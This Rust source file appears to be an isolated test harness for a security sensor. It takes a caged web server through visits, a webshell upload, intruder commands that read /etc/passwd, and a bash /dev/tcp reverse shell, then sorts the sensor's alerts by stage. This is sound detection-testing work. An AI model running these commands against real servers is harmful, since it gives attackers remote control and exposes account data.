//! One web server through all stages: visitors, an upload, commands, a reverse shell; each with
//! the time it took, by which alerts are assigned. What alerts say is not known here.

use std::fs::{self, File};
use std::net::TcpListener;
use std::path::Path;
use std::process::Command;
use std::thread;
use std::time::{Duration, SystemTime};

use anyhow::{Context, Result, ensure};
use serde_json::Value;

use super::cage::Spec;
use super::root::Root;
use super::stack::Stack;
use super::visit::{self, Site};
use crate::cage::Cage;
use crate::exec;
use crate::payloads::network::{Address, Network};
use crate::payloads::sensor::{Line, Sensor};

/// Where visitors come from: an address kept for documentation (RFC 5737).
pub(super) const CLIENT: &str = "198.51.100.23";
/// Where the reverse shell calls.
const PORT: u16 = 4444;
/// Between stages, so that alerts are of the one or the other.
const BETWEEN: Duration = Duration::from_millis(700);
/// How long visitors come, and how often.
const VISITS: u32 = 20;
const VISIT_EVERY: Duration = Duration::from_millis(200);
/// What an intruder asks first.
const QUESTIONS: &str = "id; uname -a; cat /etc/passwd";

/// A stage.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(super) enum Stage {
    /// Pages are asked for that are there for it.
    Visit,
    /// A script is sent through the site's own form.
    Upload,
    /// It runs commands.
    Commands,
    /// It runs a shell that calls back.
    Shell,
}

impl Stage {
    pub(super) const ALL: [Self; 4] = [Self::Visit, Self::Upload, Self::Commands, Self::Shell];

    pub(super) const fn name(self) -> &'static str {
        match self {
            Self::Visit => "a visits",
            Self::Upload => "b upload",
            Self::Commands => "c commands",
            Self::Shell => "d shell",
        }
    }
}

/// How it is done.
#[derive(Clone, Copy, Debug)]
pub(super) struct Way {
    /// The intruder's script is there before all.
    pub(super) is_planted: bool,
    /// The sensor is there before the web server.
    pub(super) is_sensor_first: bool,
}

/// What was done to a web server, and what the sensor said.
pub(super) struct Staged {
    pub(super) stack: Stack,
    done: Vec<(Stage, SystemTime, Result<()>)>,
    lines: Vec<Line>,
    /// The process namespace of the cage, and what keeps its number from being another's.
    namespace: u64,
    _kept: File,
}

impl Staged {
    /// Alerts that came during a stage.
    pub(super) fn alerts(&self, stage: Stage) -> Vec<&Value> {
        let Some(at) = self.done.iter().position(|(which, ..)| *which == stage) else {
            return Vec::new();
        };
        let from = self.done.get(at).map(|(_, from, _)| *from);
        let to = self.done.get(at + 1).map(|(_, to, _)| *to);
        let is_in = |line: &&Line| {
            from.is_some_and(|from| line.arrived >= from) && to.is_none_or(|to| line.arrived < to)
        };
        self.lines
            .iter()
            .filter(is_in)
            .map(|line| &line.event)
            .filter(|event| {
                event.get("event.kind").and_then(Value::as_str) == Some("alert")
                    && event.get("sensor.namespace.pid").and_then(Value::as_u64)
                        == Some(self.namespace)
            })
            .collect()
    }

    /// All that was kept of the sensor's lines.
    pub(super) fn lines(&self) -> impl Iterator<Item = &Value> {
        self.lines.iter().map(|line| &line.event)
    }

    pub(super) fn outcome(&self, stage: Stage) -> String {
        match self.done.iter().find(|(which, ..)| *which == stage) {
            None => "not done".to_owned(),
            Some((_, _, Ok(()))) => "yes".to_owned(),
            Some((_, _, Err(error))) => format!("{error:#}").chars().take(60).collect(),
        }
    }
}

/// Takes a web server through all stages.
pub(super) fn run(
    stack: Stack,
    way: Way,
    root: &Root,
    (binary, arguments): (&Path, &[String]),
    scratch: &Path,
) -> Result<Staged> {
    let network = Network::new(Address::Public)?;
    network.peer().within(|| client_address(&network))?;
    let stack = if way.is_planted {
        stack.planted()
    } else {
        stack
    };
    let watch = || Sensor::start(binary, arguments, scratch);
    let early = way.is_sensor_first.then(watch).transpose()?;
    let cage = start(&stack, root, &network, scratch)?;
    let (namespace, kept) = cage.namespace()?;
    let site = Site::new(network.server_address(), stack.port);
    let (peer, _) = network.peer_address();
    let first = stack.pages.first().context("a site without pages")?;
    network.peer().within(|| site.wait(first))?;
    let sensor = match early {
        Some(sensor) => sensor,
        None => watch()?,
    };
    thread::sleep(BETWEEN);
    let mut done = Vec::new();
    for stage in Stage::ALL {
        if way.is_planted && stage == Stage::Upload {
            continue;
        }
        let began = SystemTime::now();
        let result = network.peer().within(|| match stage {
            Stage::Visit => visits(site, &stack),
            Stage::Upload => site
                .send(&stack.form, &stack.shell.0, &stack.shell.1)
                .map(|_| ()),
            Stage::Commands => commands(site, &stack),
            Stage::Shell => {
                let listener = TcpListener::bind((peer, PORT)).context("cannot listen")?;
                let call =
                    format!("bash -c 'bash -i >& /dev/tcp/{peer}/{PORT} 0>&1' >/dev/null 2>&1 &");
                site.command(&stack.address, &call)?;
                let said = visit::take_shell(&listener)?;
                ensure!(said.contains("uid="), "the shell says {said}");
                Ok(())
            }
        });
        done.push((stage, began, result));
        thread::sleep(BETWEEN);
    }
    let lines = sensor.stop()?;
    Ok(Staged {
        stack,
        done,
        lines,
        namespace,
        _kept: kept,
    })
}

/// Visitors come from another address than the one that shells call, as intruders do.
fn client_address(network: &Network) -> Result<()> {
    let server = network.server_address();
    for words in [
        format!("addr add {CLIENT}/32 dev eth0"),
        format!("route replace {server}/32 dev eth0 src {CLIENT}"),
    ] {
        exec::output(Command::new("ip").args(words.split(' ')))?;
    }
    Ok(())
}

fn visits(site: Site, stack: &Stack) -> Result<()> {
    for _ in 0..VISITS {
        for page in &stack.pages {
            site.get(page)?;
        }
        thread::sleep(VISIT_EVERY);
    }
    Ok(())
}

fn commands(site: Site, stack: &Stack) -> Result<()> {
    let said = site.command(&stack.address, QUESTIONS)?;
    ensure!(
        said.contains("uid=") && said.contains("root:"),
        "it says {said:.200}"
    );
    Ok(())
}

/// The server, started.
fn start(stack: &Stack, root: &Root, network: &Network, scratch: &Path) -> Result<Cage> {
    let place = scratch.join("mount");
    fs::create_dir_all(&place).with_context(|| format!("cannot make {}", place.display()))?;
    let spec = Spec {
        root: root.dir(),
        scratch: place,
        stack: stack.clone(),
    };
    let mut cage = Cage::start("webshell-cage", &spec, network.server(), scratch)?;
    cage.ready()?;
    Ok(cage)
}
